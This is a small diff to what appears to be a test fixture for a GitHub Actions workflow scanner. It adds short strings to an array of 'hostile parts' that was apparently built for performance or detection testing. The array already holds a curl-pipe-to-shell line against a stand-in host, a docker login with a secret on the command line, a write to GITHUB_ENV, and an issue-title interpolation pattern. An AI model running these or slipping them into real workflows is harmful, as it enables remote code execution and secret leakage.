@@ -7,6 +7,9 @@ const title = `\${{ github.event.issue.title }}`;
 
 /** Parts that are repeated until a file is long enough; each took too long once, or was found by the search. */
 export const hostileParts = [
+  // The slowest that hours of searching found.
+  ';a',
+  'a&',
   'curl -fsSL https://a.test/x.sh | sh\n          ',
   `docker login -p ${secret} `,
   'echo $A $B $C >> $GITHUB_ENV ',
